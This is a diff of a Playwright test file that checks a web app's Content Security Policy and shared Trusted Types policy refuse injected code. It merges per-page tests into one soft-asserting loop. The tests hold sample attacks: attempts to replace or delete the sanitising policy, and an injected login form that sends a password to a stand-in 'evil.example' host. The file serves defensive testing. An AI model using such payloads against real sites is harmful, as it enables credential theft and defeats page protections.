@@ -8,6 +8,8 @@ declare global {
   }
 }
 
+const soft = expect.configure({ soft: true });
+
 const everyPage = ['/', '/help', '/help/articles/print-ready-pdf', '/admin', '/no-such-page'];
 
 /** Collects what the policy of a page refuses, from its first element on. */
@@ -152,52 +154,64 @@ test.describe('what somebody has injected', () => {
     ],
   ];
 
-  for (const [name, directive, attempt] of ATTEMPTS) {
-    for (const path of ['/help', '/admin']) {
-      test(`${name} is refused on ${path}`, async ({ page }) => {
-        await watchPolicy(page);
-        await page.goto(path);
-        await page.waitForFunction(() => 'presslineConsent' in window);
+  /** The ways in which the policy that all bundles share was replaced. */
+  const replacePolicy = () => {
+    const html = '<form action="https://evil.example"><input name="password"></form>';
+    const attempts = {
+      replaced: () => Object.assign(window, { presslineHtml: { createHTML: String } }),
+      defined: () =>
+        Object.defineProperty(window, 'presslineHtml', { value: { createHTML: String } }),
+      changed: () => Object.assign(window.presslineHtml ?? {}, { createHTML: String }),
+      deleted: () => delete (window as { presslineHtml?: unknown }).presslineHtml,
+      used: () => (document.body.innerHTML = window.presslineHtml?.createHTML(html) ?? ''),
+    };
+    return Object.entries(attempts).flatMap(([name, attempt]) => {
+      try {
+        return attempt() === false ? [] : [name];
+      } catch {
+        return [];
+      }
+    });
+  };
+
+  /** What becomes of a script of ours that comes without its hash. */
+  const bringScript = () =>
+    new Promise((resolve) => {
+      const { shell = '' } = document.querySelector<HTMLElement>('[data-shell]')?.dataset ?? {};
+      const script = Object.assign(document.createElement('script'), {
+        onload: () => resolve('runs'),
+        onerror: () => resolve('refused'),
+      });
+      script.src = shell;
+      document.head.append(script);
+    });
+
+  // What is refused leaves the page as it was: one load serves all attempts.
+  test('is refused on every page, whose common policy is nobody’s to replace', async ({ page }) => {
+    test.slow();
+    await watchPolicy(page);
+    for (const path of everyPage) {
+      await page.goto(path);
+      await page.waitForFunction(() => 'presslineHtml' in window && 'presslineConsent' in window);
+      expect.soft(await page.evaluate(replacePolicy), `policy of ${path}`).toEqual([]);
+      for (const [name, directive, attempt] of ATTEMPTS) {
+        await page.evaluate(() => {
+          window.violations = [];
+        });
         // The function itself: text would need eval, which the page refuses, too.
         await page.evaluate(attempt).catch(() => {});
-        await expect
-          .poll(() => violations(page))
+        await soft
+          .poll(() => violations(page), `${name} on ${path}`)
           .toContainEqual(expect.stringMatching(`^${directive} `));
-        expect(await page.evaluate(() => Reflect.get(window, 'isHurt'))).toBeUndefined();
-      });
-    }
-  }
-
-  for (const path of everyPage) {
-    test(`the policy that all bundles share is nobody's to replace on ${path}`, async ({
-      page,
-    }) => {
-      await watchPolicy(page);
-      await page.goto(path);
-      await page.waitForFunction(() => 'presslineHtml' in window);
-      const took = await page.evaluate(() => {
-        const html = '<form action="https://evil.example"><input name="password"></form>';
-        const attempts = {
-          replaced: () => Object.assign(window, { presslineHtml: { createHTML: String } }),
-          defined: () =>
-            Object.defineProperty(window, 'presslineHtml', { value: { createHTML: String } }),
-          changed: () => Object.assign(window.presslineHtml ?? {}, { createHTML: String }),
-          deleted: () => delete (window as { presslineHtml?: unknown }).presslineHtml,
-          used: () => (document.body.innerHTML = window.presslineHtml?.createHTML(html) ?? ''),
-        };
-        return Object.entries(attempts).flatMap(([name, attempt]) => {
-          try {
-            return attempt() === false ? [] : [name];
-          } catch {
-            return [];
-          }
-        });
-      });
-      expect(took).toEqual([]);
+        const isHurt = await page.evaluate(() => Reflect.get(window, 'isHurt'));
+        expect.soft(isHurt, `${name} on ${path}`).toBeUndefined();
+      }
+      const ours = await page.evaluate(bringScript);
+      expect.soft(ours, `a script of ours without its hash on ${path}`).toBe('refused');
       await startPage(page);
       await page.waitForFunction(() => window.presslineStarted);
-    });
-  }
+    }
+  });
 
   test('the Releases page gets to know what was refused on whose page, not what it said', async ({
     page,
@@ -211,33 +225,17 @@ test.describe('what somebody has injected', () => {
       .catch(() => {});
     const reported = async () => {
       const { errors } = await api.telemetry.get(7);
-      return errors.find(({ message }) => message.startsWith('style-src-attr refused inline'));
+      return errors.find(
+        ({ message, remote }) =>
+          remote === 'mfe-help' && message.startsWith('style-src-attr refused inline'),
+      );
     };
-    await expect.poll(reported).toMatchObject({ kind: 'page-violation', remote: 'mfe-help' });
+    await expect.poll(reported).toMatchObject({ kind: 'page-violation' });
     expect(JSON.stringify(await reported())).not.toMatch(/kim|rgb/);
     await signIn();
     await panel.open('releases');
     await expect(
       page.getByText('style-src-attr refused inline').locator('xpath=ancestor::li[1]').first(),
     ).toContainText('seen on its pages, not counted');
-  });
-
-  test('a script of ours without its hash is refused', async ({ page }) => {
-    await page.goto('/help');
-    const failed = page.evaluate(
-      () =>
-        new Promise((resolve) => {
-          const { shell = '' } = document.querySelector<HTMLElement>('[data-shell]')?.dataset ?? {};
-          const script = Object.assign(document.createElement('script'), {
-            onload: () => resolve('runs'),
-            onerror: () => resolve('refused'),
-          });
-          const { trustedTypes } = window;
-          script.src = shell;
-          document.head.append(script);
-          return trustedTypes;
-        }),
-    );
-    expect(await failed).toBe('refused');
   });
 });
